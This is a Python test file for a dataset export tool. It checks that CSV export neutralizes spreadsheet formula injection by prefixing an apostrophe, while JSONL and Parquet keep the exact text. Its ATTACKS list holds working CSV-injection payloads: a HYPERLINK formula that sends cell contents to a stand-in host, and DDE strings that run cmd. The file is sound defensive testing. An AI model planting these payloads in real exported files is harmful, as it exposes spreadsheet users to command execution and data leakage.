"""CSV formula injection (issue 11, item 3): a text cell of ``preferences.csv`` that a spreadsheet
would run as a formula (starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return) gets a
leading ``'``; JSONL and Parquet keep the exact text; the dataset card says so."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evaluation.export.folder import pair_jsonl_files
from evaluation.export.writers import FORMULA_TRIGGERS, CsvWriter, csv_cell

from .test_export_roundtrip import _plan, make_project, read_jsonl, run_export

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@given(texts=st.lists(st.text(max_size=20), min_size=1, max_size=6))
def test_every_cell_reads_back_as_text_that_no_spreadsheet_runs(texts, tmp_path_factory):
    path = tmp_path_factory.mktemp("csv") / "p.csv"
    fields = [f"c{i}" for i in range(len(texts))]
    writer = CsvWriter(path, fields)
    writer.write({name: [text] for name, text in zip(fields, texts)})
    writer.close()
    with open(path, encoding="utf-8", newline="") as fh:
        header, row = list(csv.reader(fh))
    assert header == fields
    for text, cell in zip(texts, row):
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert cell == ("'" + text if text.startswith(FORMULA_TRIGGERS) else text)


def test_numbers_are_left_alone():
    assert csv_cell(-0.25) == -0.25 and csv_cell(-3) == -3 and csv_cell(None) == ""


def test_a_real_export_neutralizes_csv_only_and_the_card_says_so():
    plan = _plan()
    for line, attack in zip(plan, ATTACKS):
        line["prompt"] = attack + " " + line["prompt"]
        line["response_a"] = attack
        line["response_b"] = attack + " (the other one)"
    scene = make_project(plan=plan)
    export = run_export(scene["project"], formats=["jsonl", "parquet", "csv"])
    folder = Path(export.path)
    exact = [row for path in pair_jsonl_files(folder) for row in read_jsonl(path)]
    with open(folder / "preferences.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    columns = ("prompt", "chosen", "rejected")
    # every CSV row is a JSONL row with each text cell neutralized, and no cell starts a formula
    assert sorted(tuple(r[c] for c in columns) for r in rows) == sorted(
        tuple(csv_cell(p[c]) for c in columns) for p in exact
    )
    assert not any(r[c].startswith(FORMULA_TRIGGERS) for r in rows for c in columns)
    attacked = [p for p in exact if any(p[c].startswith(FORMULA_TRIGGERS) for c in columns)]
    assert len(attacked) >= len(ATTACKS)
    # JSONL and Parquet keep the exact text
    import pyarrow.parquet as pq

    table = pq.read_table(folder / "preferences.parquet").to_pylist()
    assert sorted(r["chosen"] for r in table) == sorted(r["chosen"] for r in exact)
    assert any(r["chosen"] in ATTACKS or r["rejected"] in ATTACKS for r in exact)
    card = (folder / "README.md").read_text(encoding="utf-8")
    assert "CSV injection" in card and "leading `'`" in card
